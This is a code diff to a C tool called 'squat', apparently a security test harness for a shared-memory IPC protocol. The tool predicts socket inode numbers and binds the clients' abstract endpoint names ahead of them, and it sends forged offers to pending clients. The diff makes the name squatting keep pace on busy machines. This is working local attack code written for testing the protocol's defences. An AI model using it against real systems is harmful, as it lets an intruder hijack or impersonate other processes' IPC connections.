@@ -6,7 +6,10 @@
  *  - squat: before the real clients exist, it binds the endpoint names of the next
  *    NAMES socket inodes ("\0shmshim/1/<ino>", the naming rule is public and socket
  *    inodes are allocated in sequence), so that a client's own bind fails and a
- *    server offering to that client connects to the intruder instead;
+ *    server offering to that client connects to the intruder instead; every 5 ms
+ *    it looks where the numbers are, and squats further ahead once half of its
+ *    names are passed (other processes take numbers too: on a loaded machine the
+ *    first names were all passed before the first client connected, hits=0);
  *  - forge: it watches /proc/net/unix for live endpoints of pending clients and
  *    sends each a forged offer (a well-formed sealed segment with bytes already in
  *    it, and a socket of its own as "proof").
@@ -184,6 +187,77 @@ static void forge(uint64_t ino, int proof) {
   close(e);
 }
 
+/* The names squatted for one CPU: its next inode numbers, from lo to hi. Other
+ * processes take numbers too (a loaded machine, tests beside this one, can go
+ * through a CPU's whole range between two connections of the victim), so the
+ * range moves on once half of it is used up; the one before it stays bound (a
+ * client that got a number from it may not have been offered to yet). */
+#define GENS 2
+struct range {
+  uint64_t lo, hi;
+  int *fd; /* hi - lo listeners, -1 where the bind failed */
+};
+static struct range ranges[64][GENS]; /* [cpu][0]: the newest */
+static int ncpu, per_cpu, ep;
+
+static void pin(int c) {
+  cpu_set_t one;
+  CPU_ZERO(&one);
+  CPU_SET(c, &one);
+  sched_setaffinity(0, sizeof one, &one);
+}
+
+/* Binds the names of the next inodes of CPU c (the caller runs there) as its
+ * newest range. The sockets come first: they take numbers themselves. */
+static int squat_next(int c) {
+  struct range *old = &ranges[c][GENS - 1];
+  for (uint64_t i = 0; old->fd && i < old->hi - old->lo; i++)
+    if (old->fd[i] >= 0) close(old->fd[i]);
+  free(old->fd);
+  memmove(&ranges[c][1], &ranges[c][0], (GENS - 1) * sizeof ranges[c][0]);
+  struct range *r = &ranges[c][0];
+  r->fd = calloc((size_t)per_cpu, sizeof *r->fd);
+  for (int i = 0; i < per_cpu; i++) r->fd[i] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+  r->lo = current_ino() + 1;
+  r->hi = r->lo + (uint64_t)per_cpu;
+  int bound = 0;
+  for (int i = 0; i < per_cpu; i++) {
+    struct sockaddr_un sa;
+    socklen_t sl = rel_endpoint_name(r->lo + (uint64_t)i, &sa);
+    struct epoll_event ev = {.events = EPOLLIN, .data.fd = r->fd[i]};
+    if (r->fd[i] >= 0 && bind(r->fd[i], (struct sockaddr *)&sa, sl) == 0 && listen(r->fd[i], 8) == 0 &&
+        epoll_ctl(ep, EPOLL_CTL_ADD, r->fd[i], &ev) == 0) {
+      bound++;
+    } else if (r->fd[i] >= 0) {
+      close(r->fd[i]);
+      r->fd[i] = -1;
+    }
+  }
+  return bound;
+}
+
+/* Each CPU's next number: a new range where half of the newest is used up. */
+static int resquat(void) {
+  cpu_set_t all;
+  sched_getaffinity(0, sizeof all, &all);
+  int bound = 0;
+  for (int c = 0; c < ncpu; c++) {
+    pin(c);
+    uint64_t cur = current_ino();
+    struct range *r = &ranges[c][0];
+    if (!r->fd || cur >= r->lo + (uint64_t)per_cpu / 2) bound += squat_next(c);
+  }
+  sched_setaffinity(0, sizeof all, &all);
+  return bound;
+}
+
+static int squatted(uint64_t ino) {
+  for (int c = 0; c < ncpu; c++)
+    for (int g = 0; g < GENS; g++)
+      if (ranges[c][g].fd && ino >= ranges[c][g].lo && ino < ranges[c][g].hi) return 1;
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc != 3 && !(argc == 4 && !strcmp(argv[3], "attack"))) {
     fprintf(stderr, "usage: squat SECONDS NAMES [attack]\n");
@@ -191,40 +265,20 @@ int main(int argc, char **argv) {
   }
   int secs = atoi(argv[1]), names = atoi(argv[2]), attack = argc == 4;
   alarm((unsigned)secs + 30);
-  struct rlimit rl = {(rlim_t)names + 256, (rlim_t)names + 256};
-  setrlimit(RLIMIT_NOFILE, &rl);
-  /* Sockets first (they take inode numbers themselves), then the names of the
-   * inodes that come next. The kernel hands out inode numbers from per-CPU
-   * batches, so the next numbers are looked up on every CPU and each gets its
-   * share of the names. */
-  int *ls = calloc((size_t)names, sizeof *ls);
-  for (int i = 0; i < names; i++) ls[i] = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
-  int ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN);
+  /* Two ranges per CPU, each with its own sockets. */
+  struct rlimit rl = {(rlim_t)names * 2 * GENS + 256, (rlim_t)names * 2 * GENS + 256};
+  if (setrlimit(RLIMIT_NOFILE, &rl) < 0 && getrlimit(RLIMIT_NOFILE, &rl) == 0) {
+    rl.rlim_cur = rl.rlim_max;
+    setrlimit(RLIMIT_NOFILE, &rl);
+  }
+  /* The kernel hands out inode numbers from per-CPU batches, so the next numbers
+   * are looked up on every CPU and each gets its share of the names. */
+  ncpu = (int)sysconf(_SC_NPROCESSORS_ONLN);
   if (ncpu < 1) ncpu = 1;
-  uint64_t lo[64], hi[64];
-  cpu_set_t all;
-  sched_getaffinity(0, sizeof all, &all);
-  for (int c = 0; c < ncpu && c < 64; c++) {
-    cpu_set_t one;
-    CPU_ZERO(&one);
-    CPU_SET(c, &one);
-    sched_setaffinity(0, sizeof one, &one);
-    lo[c] = current_ino() + 1;
-    hi[c] = lo[c] + (uint64_t)(names / ncpu);
-  }
-  sched_setaffinity(0, sizeof all, &all);
-  int bound = 0;
-  for (int i = 0; i < names; i++) {
-    int c = i / (names / ncpu);
-    if (c >= ncpu) c = ncpu - 1;
-    struct sockaddr_un sa;
-    socklen_t sl = rel_endpoint_name(lo[c] + (uint64_t)(i - c * (names / ncpu)), &sa);
-    if (ls[i] >= 0 && bind(ls[i], (struct sockaddr *)&sa, sl) == 0 && listen(ls[i], 8) == 0) bound++;
-    else if (ls[i] >= 0) {
-      close(ls[i]);
-      ls[i] = -1;
-    }
-  }
+  if (ncpu > 64) ncpu = 64;
+  per_cpu = names / ncpu > 0 ? names / ncpu : 1;
+  ep = epoll_create1(EPOLL_CLOEXEC);
+  int bound = resquat();
   int proof = socket(AF_INET, SOCK_STREAM, 0);
   int proof_own = -1;
   {
@@ -235,15 +289,15 @@ int main(int argc, char **argv) {
   printf("ready %d\n", bound);
   fflush(stdout);
   signal(SIGTERM, on_term);
-  int ep = epoll_create1(EPOLL_CLOEXEC);
-  for (int i = 0; i < names; i++) {
-    struct epoll_event ev = {.events = EPOLLIN, .data.fd = ls[i]};
-    if (ls[i] >= 0) epoll_ctl(ep, EPOLL_CTL_ADD, ls[i], &ev);
-  }
   uint64_t end = rel_now_ns() + (uint64_t)secs * REL_NS_PER_S;
   uint64_t seen[4096];
   size_t nseen = 0;
+  uint64_t next_look = rel_now_ns();
   while (rel_now_ns() < end && !stop) {
+    if (rel_now_ns() >= next_look) {
+      resquat();
+      next_look = rel_now_ns() + 5 * REL_NS_PER_S / 1000;
+    }
     struct epoll_event evs[64];
     int n = epoll_wait(ep, evs, 64, 2);
     if (n > 0) {
@@ -268,9 +322,7 @@ int main(int argc, char **argv) {
       char *p = strstr(line, "@shmshim/1/");
       if (!p) continue;
       uint64_t ino = strtoull(p + 11, NULL, 10);
-      int own = 0;
-      for (int c = 0; c < ncpu && c < 64; c++) own |= ino >= lo[c] && ino < hi[c];
-      if (own) continue;
+      if (squatted(ino)) continue;
       int dup = 0;
       for (size_t i = 0; i < nseen && !dup; i++) dup = seen[i] == ino;
       if (dup) continue;
